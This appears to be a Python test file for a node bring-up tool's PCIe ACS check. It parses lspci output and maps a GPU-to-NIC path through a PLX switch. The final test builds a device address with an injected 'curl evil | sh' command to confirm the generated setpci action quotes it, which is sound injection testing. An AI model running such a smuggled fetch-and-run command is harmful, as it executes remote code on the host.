"""PCIe ACS on the switch ports between a GPU and its NIC (issue 28, item A): the `lspci -vvv`
parser pinned on real renderings, the PCI tree read from sysfs trees laid out as a real
`lspci -tv` (NVIDIA's l2fwd-nv machine: a PEX 8747 between a Tesla V100 and a ConnectX-6 Dx),
the probe with a stand-in `lspci` (a real one hung, missing, without root, printing garbage),
and the fabric.acs check (tests/fixtures/fabric/SOURCES.md)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from bringup.checks import fabric as checks
from bringup.checks.catalog import judge_probe
from bringup.findings import Status
from bringup.node import pci_tree
from bringup.node.fabric_facts import AcsFacts, FabricFacts, GpuNicPath, PciBridgeAcs
from bringup.node.parsers import lspci
from bringup.node.probes import fabric as probe
from bringup.node.result import ParseError
from bringup.profile import load
from tests.support import FIXTURES
from tests.support.sysfs_fabric import write_pci_tree, write_tree

HERE = FIXTURES / "fabric"
ROOT_PORT_ACS = "lspci-vvv-xeon-e5v3-rootport-acs-cx3pro.txt"
NOT_ROOT = "lspci-D-vvv-not-root-virtio-vm.txt"
PEX8747 = "lspci-D-vvv-pex8747-gpu-nic-acs-on-ASSEMBLED.txt"
# The ACSCtl lines NVIDIA/nccl#304 quotes from PLX bridges: ACS on ("the broken state") and
# off ("the working state").
PLX_ON = "ACSCtl:\tSrcValid+ TransBlk- ReqRedir+ CmpltRedir+ UpstreamFwd+ EgressCtrl- DirectTrans-"
PLX_OFF = "ACSCtl:\tSrcValid- TransBlk- ReqRedir- CmpltRedir- UpstreamFwd- EgressCtrl- DirectTrans-"
FLAGS = (
    "SrcValid",
    "TransBlk",
    "ReqRedir",
    "CmpltRedir",
    "UpstreamFwd",
    "EgressCtrl",
    "DirectTrans",
)

# NVIDIA's l2fwd-nv machine (`lspci -tv`): root port b2:00.0, PEX 8747 up b3:00.0, down b4:08.0
# (ConnectX-6 Dx, two functions) and b4:10.0 (Tesla V100 PCIe).
RP, UP, DOWN_NIC, DOWN_GPU = "0000:b2:00.0", "0000:b3:00.0", "0000:b4:08.0", "0000:b4:10.0"
NIC0, NIC1, GPU = "0000:b5:00.0", "0000:b5:00.1", "0000:b6:00.0"
CHAINS = [[RP, UP, DOWN_NIC, NIC0], [RP, UP, DOWN_NIC, NIC1], [RP, UP, DOWN_GPU, GPU]]
IDS = {
    RP: ("0x8086", "0x060400"),
    NIC0: ("0x15b3", "0x020000"),
    NIC1: ("0x15b3", "0x020000"),
    GPU: ("0x10de", "0x030200"),
}


def text(name: str) -> str:
    return (HERE / name).read_text()


def flags(line: str) -> dict[str, bool]:
    return lspci.parse_flags(line.removeprefix("ACSCtl:"))


# --- the parser ---------------------------------------------------------------------------------


def test_a_root_port_with_acs_redirect_above_a_connectx3() -> None:
    port, nic = lspci.parse_lspci(text(ROOT_PORT_ACS))
    assert (port.address, port.access_denied) == ("0000:00:02.0", False)
    assert port.name == (
        "PCI bridge: Intel Corporation Xeon E7 v3/Xeon E5 v3/Core i7 PCI Express Root Port 2 "
        "(rev 02) (prog-if 00 [Normal decode])"
    )
    assert port.acs_ctl == dict(
        zip(FLAGS, [True, True, True, True, True, False, False], strict=True)
    )
    assert (nic.address, nic.acs_ctl) == ("0000:03:00.0", None)
    assert nic.name == "Ethernet controller: Mellanox Technologies MT27520 Family [ConnectX-3 Pro]"


def test_without_root_every_capability_is_access_denied() -> None:
    functions = lspci.parse_lspci(text(NOT_ROOT))
    assert [(f.address, f.access_denied, f.acs_ctl) for f in functions] == [
        ("0000:00:00.0", False, None),  # a host bridge with no capability list at all
        *[(f"0000:00:0{i}.0", True, None) for i in range(1, 6)],
    ]


def test_acsctl_lines_quoted_in_issue_threads() -> None:
    assert flags(PLX_ON) == dict(zip(FLAGS, [1, 0, 1, 1, 1, 0, 0], strict=True))
    assert not any(flags(PLX_OFF).values())
    # NVIDIA/nccl#523: SrcValid alone (no redirect), spaces instead of a tab.
    alone = (
        "ACSCtl: SrcValid+ TransBlk- ReqRedir- CmpltRedir- UpstreamFwd- EgressCtrl- DirectTrans-"
    )
    assert [f for f, on in flags(alone).items() if on] == ["SrcValid"]
    assert PciBridgeAcs("0000:03:00.0", acs_ctl=flags(alone)).redirect == []
    assert PciBridgeAcs("0000:03:00.0", acs_ctl=flags(PLX_ON)).redirect == [
        "ReqRedir",
        "CmpltRedir",
    ]


@pytest.mark.parametrize("bad", ["", "\x00\x01garbage\xff", "lspci: Unable to load libkmod\n"])
def test_text_without_a_pci_function_is_one_parse_error(bad: str) -> None:
    with pytest.raises(ParseError, match="not `lspci -vvv` output"):
        lspci.parse_lspci(bad)


# --- the PCI tree -------------------------------------------------------------------------------


def test_the_bridges_between_the_gpu_and_the_nic_on_its_switch(tmp_path: Path) -> None:
    sys_root = write_pci_tree(tmp_path / "sys", CHAINS, IDS)
    assert pci_tree.chain(sys_root, GPU) == [RP, UP, DOWN_GPU, GPU]
    assert pci_tree.nvidia_gpus(sys_root) == [GPU]
    between = pci_tree.bridges_between(
        pci_tree.chain(sys_root, GPU) or [], pci_tree.chain(sys_root, NIC0) or []
    )
    assert between == [DOWN_GPU, DOWN_NIC]
    # Different root ports share no bridge: no switch between them (PHB/NODE/SYS).
    assert pci_tree.bridges_between(["0000:00:01.0", GPU], ["0000:00:02.0", NIC0]) is None
    assert pci_tree.chain(sys_root, "0000:ff:00.0") is None


# --- the probe, with a stand-in lspci -----------------------------------------------------------


def _node(tmp_path: Path, chains: list[list[str]] = CHAINS) -> Path:
    """The l2fwd-nv machine's PCI tree, and its two NIC functions as RDMA devices (ports
    written from the real ConnectX-6 ibstat capture)."""
    sys_root = write_pci_tree(tmp_path / "sys", chains, IDS)
    ibstat = text("ibstat-mlx5-cx6-hdr-excerpt.txt")
    return write_tree(sys_root, ibstat, {"mlx5_4": NIC0, "mlx5_2": NIC1})


def _lspci(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, body: str) -> None:
    """A stand-in `lspci` first on PATH: a shell script with this body."""
    tools = tmp_path / "bin"
    tools.mkdir(exist_ok=True)
    script = tools / "lspci"
    script.write_text("#!/bin/sh\n" + body + "\n")
    script.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}{os.pathsep}{os.environ['PATH']}")


def _printing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, output: str) -> None:
    out = tmp_path / "lspci-output.txt"
    out.write_text(output)
    _lspci(tmp_path, monkeypatch, f'[ "$1 $2" = "-D -vvv" ] || exit 9\ncat "{out}"')


def _acs(tmp_path: Path, timeout_s: float = 10.0) -> tuple[FabricFacts, str | None]:
    sys_root = tmp_path / "sys"
    facts = probe.read_fabric(sys_root, tmp_path / "proc", None)
    facts.acs, raw = probe.read_acs(sys_root, facts.devices, timeout_s)
    return facts, raw


def _judge(facts: FabricFacts) -> list[tuple[Status, str]]:
    return [(f.status, f.message) for f in checks.judge_acs(facts, load("h100"))]


def test_acs_redirect_on_the_switch_between_gpu_and_nic_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _node(tmp_path)
    _printing(tmp_path, monkeypatch, text(PEX8747))
    facts, raw = _acs(tmp_path)
    assert raw == text(PEX8747)  # kept as the probe's raw output
    acs = facts.acs
    assert acs is not None
    assert (acs.gpus, acs.unread) == ([GPU], None)
    assert acs.paths == [
        GpuNicPath(GPU, "mlx5_2", [DOWN_GPU, DOWN_NIC]),
        GpuNicPath(GPU, "mlx5_4", [DOWN_GPU, DOWN_NIC]),
    ]
    assert [(b.address, b.redirect) for b in acs.bridges] == [
        (DOWN_GPU, ["ReqRedir", "CmpltRedir"]),
        (DOWN_NIC, ["ReqRedir", "CmpltRedir"]),
    ]
    findings = checks.judge_acs(facts, load("h100"))
    plx = "PCI bridge: PLX Technology, Inc. PEX 8747 48-Lane, 5-Port PCI Express Gen 3 (8.0 GT/s) "
    plx += "Switch (rev ca) (prog-if 00 [Normal decode])"
    assert [(f.status, f.message) for f in findings] == [
        (
            Status.FAIL,
            f"ACS redirect on {port} ({plx}), on the path GPU {GPU} - mlx5_2, GPU {GPU} - "
            "mlx5_4: ACSCtl SrcValid+ ReqRedir+ CmpltRedir+ UpstreamFwd+",
        )
        for port in (DOWN_GPU, DOWN_NIC)
    ]
    first = findings[0]
    assert (first.value, first.expected) == (
        "ReqRedir+ CmpltRedir+",
        checks.finding("x", Status.FAIL, "", expected="ReqRedir- CmpltRedir- EgressCtrl-").expected,
    )
    action = first.action or ""
    assert f"`setpci -s {DOWN_GPU} ECAP_ACS+0x6.w=0000`" in action
    assert "BIOS" in action and f"pci=disable_acs_redir={DOWN_GPU}" in action


def test_acs_off_on_both_ports_passes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same output with the ACSCtl lines in nccl#304's working state (every bit -)."""
    _node(tmp_path)
    _printing(tmp_path, monkeypatch, text(PEX8747).replace(PLX_ON, PLX_OFF))
    facts, _ = _acs(tmp_path)
    assert _judge(facts) == [
        (
            Status.PASS,
            "ACS off on 2 switch ports between 1 GPU and 2 NICs on their switches (lspci ACSCtl)",
        )
    ]


def test_acs_without_a_redirect_bit_warns(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """nccl#523's SrcValid-only line on the GPU's port: nothing redirected, but not off."""
    _node(tmp_path)
    alone = (
        "ACSCtl:\tSrcValid+ TransBlk- ReqRedir- CmpltRedir- UpstreamFwd- EgressCtrl- DirectTrans-"
    )
    output = text(PEX8747).replace(PLX_ON, PLX_OFF)
    gpu_block = output.index(DOWN_GPU)
    output = output[:gpu_block] + output[gpu_block:].replace(PLX_OFF, alone, 1)
    _printing(tmp_path, monkeypatch, output)
    facts, _ = _acs(tmp_path)
    (finding,) = checks.judge_acs(facts, load("h100"))
    assert finding.status is Status.WARN
    assert finding.message.startswith(f"ACS on {DOWN_GPU} (PCI bridge: PLX Technology")
    assert finding.message.endswith(": ACSCtl SrcValid+ (no redirect bit)")


def test_lspci_without_root_is_an_error_never_a_pass(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without root lspci shows `Capabilities: <access denied>` and no ACSCtl line: that is
    not "ACS off" (the real non-root capture above shows the same line)."""
    _node(tmp_path)
    denied = "\tCapabilities: <access denied>\n"
    output = text(PEX8747)
    for line in output.splitlines(keepends=True):
        if line.startswith("\tCapabilities") or line.startswith("\t\tACS"):
            output = output.replace(line, "")
    output = output.replace("\tKernel driver in use", denied + "\tKernel driver in use")
    _printing(tmp_path, monkeypatch, output)
    facts, _ = _acs(tmp_path)
    assert facts.acs is not None and facts.acs.unread == probe.NOT_ROOT
    (finding,) = checks.judge_acs(facts, load("h100"))
    assert (finding.status, finding.message) == (
        Status.ERROR,
        f"ACS on the GPU-NIC path not read (2 switch ports: {DOWN_GPU}, {DOWN_NIC}): "
        "lspci -vvv ran without root: the ACS capability shows as "
        "'Capabilities: <access denied>'",
    )
    assert "root" in (finding.action or "")


def test_lspci_missing_hung_or_printing_garbage_is_one_error_each(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _node(tmp_path)
    cases = []
    monkeypatch.setattr(probe, "which", lambda name: None)
    cases.append(_judge(_acs(tmp_path)[0]))
    monkeypatch.undo()
    _lspci(tmp_path, monkeypatch, "exec sleep 30")
    cases.append(_judge(_acs(tmp_path, timeout_s=0.5)[0]))
    _printing(tmp_path, monkeypatch, "\x00\x01\x02garbage\n")
    cases.append(_judge(_acs(tmp_path)[0]))
    _lspci(tmp_path, monkeypatch, "echo 'lspci: Cannot open /sys/bus/pci/devices' >&2; exit 1")
    cases.append(_judge(_acs(tmp_path)[0]))
    start = f"ACS on the GPU-NIC path not read (2 switch ports: {DOWN_GPU}, {DOWN_NIC}): "
    assert cases == [
        [(Status.ERROR, start + "lspci not found (the pciutils package is not installed)")],
        [(Status.ERROR, start + "lspci -vvv did not finish in 0.5 s")],
        [
            (
                Status.ERROR,
                start + "lspci -vvv output not read: not `lspci -vvv` output: no PCI function "
                "line (bus:device.function)",
            )
        ],
        [(Status.ERROR, start + "lspci -vvv exited 1: lspci: Cannot open /sys/bus/pci/devices")],
    ]


def test_no_lspci_run_when_no_gpu_shares_a_switch_with_a_nic(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The GPU moved to a root port of its own: nothing for ACS to redirect, no lspci run."""
    _node(tmp_path, [CHAINS[0], CHAINS[1], ["0000:b7:00.0", GPU]])
    _lspci(tmp_path, monkeypatch, "exit 3")  # would be an ERROR if it ran
    facts, raw = _acs(tmp_path)
    assert raw is None
    assert _judge(facts) == [
        (
            Status.SKIP,
            "no GPU shares a PCIe switch with an RDMA NIC (1 GPU, 2 RDMA devices): no switch "
            "port on a GPU-NIC path (topology.nic_affinity judges the placement)",
        )
    ]


def test_skips_say_why() -> None:
    none = FabricFacts(source="sysfs")
    ibstat = FabricFacts(source="ibstat", devices=[probe.RdmaDevice("mlx5_0")])
    no_gpu = FabricFacts(source="sysfs", devices=[probe.RdmaDevice("mlx5_0")], acs=AcsFacts())
    assert [checks.judge_acs(f, load("b300"))[0].message for f in (none, ibstat, no_gpu)] == [
        "no RDMA devices under /sys/class/infiniband: no GPU-NIC path",
        "not shown by ibstat",
        "no NVIDIA GPU on the PCI bus: no GPU-NIC path",
    ]
    assert {f.status for f in judge_probe("fabric", none, None, load("b300"), {})} == {Status.SKIP}


def test_the_live_probe_collects_acs_from_its_sys_root(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """collect() with the tree as its /sys: the ACS facts and the lspci output come back."""
    _node(tmp_path)
    _printing(tmp_path, monkeypatch, text(PEX8747))
    params = probe.Params(interval_s=0, window_s=60, sys_root=str(tmp_path / "sys"))
    output = probe.collect(params)
    assert output.facts.acs is not None
    assert [b.address for b in output.facts.acs.bridges] == [DOWN_GPU, DOWN_NIC]
    assert output.raw["lspci-vvv.txt"] == text(PEX8747)


def test_a_node_reported_address_cannot_become_another_command() -> None:
    """Facts come from the node: an address with shell text in it is quoted in the action."""
    hostile = "0000:b4:08.0; curl evil | sh"
    facts = FabricFacts(
        source="sysfs",
        devices=[probe.RdmaDevice("mlx5_0")],
        acs=AcsFacts(
            gpus=[GPU],
            paths=[GpuNicPath(GPU, "mlx5_0", [hostile])],
            bridges=[PciBridgeAcs(hostile, acs_ctl=flags(PLX_ON))],
        ),
    )
    (finding,) = checks.judge_acs(facts, load("b300"))
    assert "`setpci -s '0000:b4:08.0; curl evil | sh' ECAP_ACS+0x6.w=0000`" in (
        finding.action or ""
    )
